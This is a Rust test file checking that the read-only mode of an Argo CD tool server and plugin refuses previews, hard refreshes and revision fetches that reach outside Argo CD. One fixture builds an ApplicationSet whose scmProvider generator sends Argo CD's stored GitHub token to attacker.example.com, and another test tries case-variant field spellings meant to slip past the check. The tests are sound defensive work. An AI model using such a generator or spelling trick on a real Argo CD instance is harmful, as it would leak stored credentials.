//! Read-only mode runs nothing that reaches outside Argo CD's own state: a preview with a
//! generator that calls out, a hard refresh, and manifests or revision metadata at a revision
//! the app does not have, are refused before anything is sent to do them; what only reads Argo
//! CD's objects (and the app's own revisions) still works. Through both components.

use host_test::embed::HostEnv;
use host_test::standin::{Config, StandIn};
use serde_json::{Value, json};

use crate::{World, harness};

/// An scmProvider generator pointed at an attacker's API with the token Argo CD stores.
fn calling_out() -> Value {
    json!({"metadata": {"name": "probe"}, "spec": {
        "generators": [{"matrix": {"generators": [
            {"clusters": {}},
            {"scmProvider": {"github": {"organization": "org", "api": "https://attacker.example.com", "tokenRef": {"secretName": "github-token", "key": "token"}}}}
        ]}}],
        "template": {"metadata": {"name": "{{repository}}"}, "spec": {"project": "default", "source": {"repoURL": "{{url}}", "path": "."}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"}}}
    }})
}

fn offline() -> Value {
    json!({"metadata": {"name": "probe"}, "spec": {
        "generators": [{"list": {"elements": [{"env": "dev"}, {"env": "prod"}]}}],
        "template": {"metadata": {"name": "web-{{env}}"}, "spec": {"project": "default", "source": {"repoURL": "https://git.example.com/web.git", "path": "envs/{{env}}"}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "web-{{env}}"}}}
    }})
}

/// The server, read-only, against a fresh stand-in.
async fn read_only_world() -> World {
    World::with(
        Config::default(),
        &[
            ("argocd_username", "admin"),
            ("argocd_password", crate::PASSWORD),
            ("read_only", "true"),
        ],
    )
    .await
}

/// The plugin's environment: read-only, against the stand-in.
fn read_only_plugin(standin: &StandIn) -> HostEnv {
    HostEnv {
        env: vec![
            ("ARGOCD_URL".into(), "https://argocd.example.com".into()),
            ("ARGOCD_TOKEN".into(), standin.api_token("admin", None)),
            ("ARGOCD_READ_ONLY".into(), "true".into()),
        ],
        redirect: Some(standin.addr),
        ..HostEnv::default()
    }
}

fn nothing_sent(standin: &StandIn) {
    let sent: Vec<String> = standin
        .requests()
        .into_iter()
        .map(|r| r.path)
        .filter(|p| p.contains("/applicationsets/generate") || p.contains("refresh=hard"))
        .collect();
    assert!(sent.is_empty(), "read-only sent {sent:?}");
}

fn says_why(error: &str, named: &str) {
    assert!(
        error.contains("read-only") && error.contains(named),
        "{error}"
    );
}

#[tokio::test]
async fn read_only_refuses_what_calls_out_server() {
    let world = read_only_world().await;
    let refused = world
        .tool_error(
            "preview_argocd_applicationset",
            json!({"applicationset": calling_out()}),
        )
        .await;
    says_why(&refused, "scmProvider");
    let hard = world
        .tool_error(
            "refresh_argocd_app",
            json!({"app_name": "guestbook", "hard": true}),
        )
        .await;
    says_why(&hard, "hard refresh");
    nothing_sent(&world.standin);
    let preview = world
        .ok(
            "preview_argocd_applicationset",
            json!({"applicationset": offline()}),
        )
        .await;
    assert_eq!(preview["count"], 2);
    world
        .ok("refresh_argocd_app", json!({"app_name": "guestbook"}))
        .await;
}

#[tokio::test]
async fn read_only_refuses_what_calls_out_plugin() {
    let standin = StandIn::start(Config::default()).await.unwrap();
    let env = read_only_plugin(&standin);
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let refused = p
        .call_preview_argocd_applicationset(&mut s, &calling_out().to_string(), None)
        .await
        .unwrap()
        .unwrap_err();
    says_why(&refused, "scmProvider");
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let hard = p
        .call_refresh_argocd_app(&mut s, "guestbook", Some(true), None, None)
        .await
        .unwrap()
        .unwrap_err();
    says_why(&hard, "hard refresh");
    nothing_sent(&standin);
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let preview = p
        .call_preview_argocd_applicationset(&mut s, &offline().to_string(), None)
        .await
        .unwrap()
        .expect("a list generator previews");
    assert_eq!(serde_json::from_str::<Value>(&preview).unwrap()["count"], 2);
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    p.call_refresh_argocd_app(&mut s, "guestbook", None, None, None)
        .await
        .unwrap()
        .expect("a normal refresh");
}

/// Found by the hostile review: Argo CD reads field names ignoring case, so `Generators` (or a
/// matrix's `GENERATORS`) carried a call-out generator past an exact-name check. Any spelling
/// of a judged field other than Argo CD's own is refused, and nothing is sent.
#[tokio::test]
async fn read_only_refuses_fields_spelled_otherwise_server() {
    let world = World::with(
        Config::default(),
        &[("argocd_token", "x"), ("read_only", "true")],
    )
    .await;
    let generators = calling_out()["spec"]["generators"][0]["matrix"]["generators"].clone();
    for spec in [
        json!({"metadata": {"name": "p"}, "spec": {"Generators": generators}}),
        json!({"metadata": {"name": "p"}, "spec": {"generators": [{"matrix": {"GENERATORS": generators}}]}}),
        json!({"metadata": {"name": "p"}, "spec": {"generatorſ": generators}}),
    ] {
        let error = world
            .tool_error(
                "preview_argocd_applicationset",
                json!({"applicationset": spec}),
            )
            .await;
        assert!(error.contains("read-only"), "{error}");
    }
    nothing_sent(&world.standin);
}

/// Nothing asked the repo-server for a revision: no manifests and no revision metadata.
fn no_revision_fetched(standin: &StandIn) {
    let sent: Vec<String> = standin
        .requests()
        .into_iter()
        .map(|r| r.path)
        .filter(|p| p.contains("/manifests") || p.contains("/revisions/"))
        .collect();
    assert!(sent.is_empty(), "read-only sent {sent:?}");
}

/// The revision guestbook is synced to, as Argo CD holds it.
fn synced_revision(standin: &StandIn) -> String {
    let app = standin.app("guestbook").unwrap();
    app["status"]["sync"]["revision"]
        .as_str()
        .expect("guestbook is synced to a revision")
        .to_owned()
}

/// Found by the hostile review: a revision the caller names makes Argo CD's repo-server fetch it
/// from git (and render it, for manifests). In read-only mode only revisions the app already
/// has are read.
#[tokio::test]
async fn read_only_reads_only_revisions_the_app_has_server() {
    let world = read_only_world().await;
    let manifests = world
        .tool_error(
            "get_argocd_app_manifests",
            json!({"app_name": "guestbook", "revision": "feature-x"}),
        )
        .await;
    says_why(&manifests, "feature-x");
    let metadata = world
        .tool_error(
            "get_argocd_revision_metadata",
            json!({"app_name": "guestbook", "revision": "feature-x"}),
        )
        .await;
    says_why(&metadata, "feature-x");
    no_revision_fetched(&world.standin);
    let synced = synced_revision(&world.standin);
    world
        .ok(
            "get_argocd_app_manifests",
            json!({"app_name": "guestbook", "revision": synced}),
        )
        .await;
    world
        .ok(
            "get_argocd_revision_metadata",
            json!({"app_name": "guestbook", "revision": synced}),
        )
        .await;
    world
        .ok("get_argocd_app_manifests", json!({"app_name": "guestbook"}))
        .await;
}

#[tokio::test]
async fn read_only_reads_only_revisions_the_app_has_plugin() {
    let standin = StandIn::start(Config::default()).await.unwrap();
    let env = read_only_plugin(&standin);
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let refused = p
        .call_get_argocd_app_manifests(
            &mut s,
            "guestbook",
            None,
            Some(&["feature-x".to_owned()][..]),
            Some(&[1i64][..]),
            None,
            None,
            None,
            None,
        )
        .await
        .unwrap()
        .unwrap_err();
    says_why(&refused, "feature-x");
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    let refused = p
        .call_get_argocd_revision_metadata(&mut s, "guestbook", "feature-x", None, None, None)
        .await
        .unwrap()
        .unwrap_err();
    says_why(&refused, "feature-x");
    no_revision_fetched(&standin);
    let synced = synced_revision(&standin);
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    p.call_get_argocd_app_manifests(
        &mut s,
        "guestbook",
        Some(synced.as_str()),
        None,
        None,
        None,
        None,
        None,
        None,
    )
    .await
    .unwrap()
    .expect("the revision the app is synced to");
    let (p, mut s) = harness().plugin(&env).await.unwrap();
    p.call_get_argocd_revision_metadata(&mut s, "guestbook", &synced, None, None, None)
        .await
        .unwrap()
        .expect("the revision the app is synced to");
}
